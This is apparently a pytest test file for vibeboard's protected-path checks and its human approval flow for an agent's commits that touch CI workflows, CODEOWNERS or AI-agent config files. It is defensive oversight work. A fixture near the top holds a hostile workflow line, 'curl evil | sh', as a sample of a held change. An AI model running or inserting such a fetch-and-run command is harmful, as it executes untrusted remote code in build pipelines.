"""Which files need a person, and what is decided about work that changes one."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.domain.model import ALICE, BOARD, KEY, LISTED, US, stage, workflow
from vibeboard.domain import holding, words
from vibeboard.domain.board import Actor, Card, Permission, Place
from vibeboard.domain.decide import decide
from vibeboard.domain.effects import (
    Effect,
    MoveCard,
    React,
    RemoveWorkspace,
    Reply,
    StartRun,
    VouchFor,
)
from vibeboard.domain.events import CommentMade, IssueClosed, RunEnded
from vibeboard.domain.protected import Held, is_protected, those_protected
from vibeboard.domain.run import Posting, Report, Run, RunState
from vibeboard.domain.situation import CardHistory, Situation
from vibeboard.domain.workflow import VERIFY

AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
COMMIT = "3f2a1bc" + "0" * 33
HELD = Held(COMMIT, (".github/workflows/ci.yml",), "+  run: curl evil | sh")
RUN = Run("r0123456789a", KEY, "develop", "d1", "alice", RunState.NEEDS_APPROVAL,
          AT, AT, report=Report(RunState.NEEDS_APPROVAL, branch="vibe/7-x",
                                reason=words.held_back(HELD), commit=COMMIT,
                                held=HELD))  # fmt: skip


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml",
        ".github/workflows/deep/er.yaml",
        ".GitHub/Workflows/CI.yml",
        ".github/workflows",  # a link in its place
        ".github/actions/build/action.yml",
        "action.yml",
        "actions/build/action.yaml",
        "CODEOWNERS",
        "docs/CODEOWNERS",
        ".github/CODEOWNERS",
        ".vibe.yml",
        ".vibe/prompts/develop.md",
        "CLAUDE.md",
        "packages/web/AGENTS.md",
        ".claude/settings.json",
        "web/.claude/hooks/x.sh",
        ".codex/config.toml",
        ".mcp.json",
        ".gemini/settings.json",
        "opencode.json",
        ".cursor/rules/a.mdc",
        ".gitmodules",
    ],
)
def test_these_are_always_protected(path: str) -> None:
    assert is_protected(path)


@pytest.mark.parametrize(
    "path",
    [
        "README.md",
        "src/workflows/ci.yml",
        ".github/dependabot.yml",
        "src/CODEOWNERS",
        "my-action.yml",
        "docs/CLAUDE.md.txt",
        "claude/settings.json",
        "a.vibe.yml",
        ".vibe.yml.bak",
        "",
    ],
)
def test_these_are_not(path: str) -> None:
    assert not is_protected(path)


@pytest.mark.parametrize(
    ("glob", "inside", "outside"),
    [
        pytest.param("infra/**", "infra/a/b.tf", "my/infra/b.tf", id="a folder"),
        pytest.param("**/*.lock", "a/b/c.lock", "a/lock", id="an ending anywhere"),
        pytest.param("**/*.lock", "c.lock", "c.lock/x", id="at the top, too"),
        pytest.param("Makefile", "makefile", "sub/Makefile", id="one file"),
        pytest.param("a/*/c", "a/b/c", "a/b/b/c", id="one folder between"),
        pytest.param("a/**/c", "a/c", "ab/c", id="any folders between"),
        pytest.param("v?.txt", "v1.txt", "v12.txt", id="one character"),
        pytest.param("v[0-9].txt", "v1.txt", "vx.txt", id="one of some"),
        pytest.param("v[!0-9].txt", "vx.txt", "v1.txt", id="none of some"),
        pytest.param("v[9-0]", "v[9-0]", "v5", id="a range that runs backwards"),
        pytest.param("a.b", "a.b", "axb", id="a dot is a dot"),
        pytest.param("a(b|c)", "a(b|c)", "ab", id="no other signs"),
    ],
)
def test_a_team_protects_its_own(glob: str, inside: str, outside: str) -> None:
    assert is_protected(inside, [glob])
    assert not is_protected(outside, [glob])
    assert those_protected([outside, inside], [glob]) == [inside]


@given(st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=4))
def test_whatever_lies_in_a_protected_folder_is(parts: list[str]) -> None:
    below = "/".join(part.replace("/", "_") for part in parts)

    assert is_protected(f".github/workflows/{below}")
    assert is_protected(f"infra/{below}", ["infra/**"])
    assert is_protected(f"{below}/AGENTS.md")


@given(st.text(alphabet="*?[]!-a/.\\^", min_size=1, max_size=12), st.text(max_size=12))
def test_any_glob_can_be_asked(glob: str, path: str) -> None:
    assert is_protected(path, [glob]) in (True, False)


# --- What is decided ------------------------------------------------------------


def situation(
    *runs: Run, permission: Permission = Permission.WRITE, is_open: bool = True
) -> Situation:
    place = Place(BOARD, "PVTI_1", "Development")
    return Situation(
        us=US.login,
        card=Card(KEY, "I_7", "Fix", "", "", ALICE, is_open=is_open, places=(place,)),
        history=CardHistory("Development", runs or (RUN,)),
        workflow=workflow(
            stage("develop", "Development", next="QA", otherwise="Attention"),
            stage("qa", "QA"),
        ),
        config_commit="c0ffee",
        permission=permission,
    )


def commented(body: str, known: Situation, by: Actor = ALICE) -> list[Effect]:
    comment = CommentMade(
        by, KEY.repository, KEY.number, 5, body, on_pull_request=False
    )
    return decide(comment, known, cause="g")


def reply(effects: list[Effect]) -> str:
    (only,) = [effect.body for effect in effects if isinstance(effect, Reply)]
    assert not any(isinstance(effect, StartRun) for effect in effects)
    return only


@pytest.mark.parametrize("target", ["3f2a1bc", COMMIT, "r0123456789a", "R0123456"])
def test_an_approval_pushes_exactly_that_commit(target: str) -> None:
    effects = commented(f"/agent approve {target} looks fine", situation())

    assert effects == [
        React(KEY.repository, 5, "eyes"),
        VouchFor(KEY, f"protected {COMMIT}", "alice", "looks fine", "comment-5"),
        StartRun(
            KEY, "develop", "comment-5", "alice", "c0ffee", parallel=3, approved=COMMIT
        ),
    ]


NEWER = replace(
    RUN, id="r2", state=RunState.SUCCEEDED, changed_at=AT + timedelta(minutes=1)
)
BUSY = replace(RUN, id="r3", state=RunState.RUNNING, report=None)
CUT = replace(
    RUN,
    report=replace(RUN.report, held=replace(HELD, whole=False)),  # type: ignore[type-var]  # it has one
)


@pytest.mark.parametrize(
    ("command", "known", "by", "told"),
    [
        pytest.param(
            "/agent approve 3f2a1b",
            situation(),
            ALICE,
            "not the newest",
            id="too short",
        ),
        pytest.param(
            "/agent approve 4444444", situation(), ALICE, "not the newest", id="another"
        ),
        pytest.param(
            "/agent approve", situation(), ALICE, "Say which commit", id="none named"
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(RUN, NEWER),
            ALICE,
            "not the newest",
            id="overtaken",
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(RUN, BUSY),
            ALICE,
            "is running",
            id="the agent is at it again",
        ),
        pytest.param(
            "/agent approve 3f2a1bc", situation(CUT), ALICE, "too large", id="too large"
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(replace(RUN, posting=Posting(41, "https://x", AT, over=True))),
            ALICE,
            "gone with its machine",
            id="made by a job of GitHub Actions",
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(is_open=False),
            ALICE,
            "the issue is closed",
            id="closed",
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(permission=Permission.READ),
            Actor("mallory"),
            "need write permission",
            id="a stranger",
        ),
        pytest.param(
            "/agent approve 3f2a1bc",
            situation(),
            LISTED,
            "needs a person with write",
            id="a bot that may start runs",
        ),
    ],
)
def test_nothing_else_is_pushed(
    command: str, known: Situation, by: Actor, told: str
) -> None:
    assert told in reply(commented(command, known, by))


def test_starting_runs_is_not_enough_to_approve() -> None:
    known = situation(permission=Permission.TRIAGE)
    assert known.workflow is not None
    triagers = replace(known.workflow, least_permission=Permission.TRIAGE)

    told = reply(commented("/agent approve 3f2a1bc", replace(known, workflow=triagers)))

    assert "needs a person with write permission" in told


def test_a_rejection_without_a_word_throws_the_work_away() -> None:
    for command in ("/agent reject", "/agent reject 3f2a1bc"):
        effects = commented(command, situation())

        assert RemoveWorkspace(KEY, "comment-5") in effects
        assert "Thrown away" in reply(effects)


@pytest.mark.parametrize("target", ["", "3f2a1bc ", "r0123456789a "])
def test_a_rejection_with_words_sends_the_agent_back(target: str) -> None:
    effects = commented(f"/agent reject {target}Leave the workflow alone.", situation())

    (start,) = [effect for effect in effects if isinstance(effect, StartRun)]
    assert start.instructions == (
        "Somebody rejected the work:\n\nLeave the workflow alone."
    )
    assert not start.approved


def test_a_card_whose_work_is_held_waits_where_it_is_and_a_person_is_called() -> None:
    effects = decide(RunEnded(RUN.id, KEY), situation(), cause=RUN.id)

    (call,) = [effect for effect in effects if isinstance(effect, Reply)]
    assert call.body.startswith("@alice *develop* is done, and nothing was pushed")
    assert "`/agent approve 3f2a1bc` pushes exactly this commit" in call.body
    assert not [effect for effect in effects if isinstance(effect, MoveCard | StartRun)]


def test_the_closed_issues_workspace_stays_while_its_work_is_held() -> None:
    assert decide(IssueClosed(ALICE, KEY), situation(), cause="g") == []


def test_a_commit_is_held_only_until_something_else_was_done() -> None:
    assert holding.held(situation()) == RUN
    verified = replace(NEWER, stage=VERIFY)
    assert holding.held(situation(RUN, verified)) == RUN
    assert holding.held(situation(RUN, NEWER)) is None
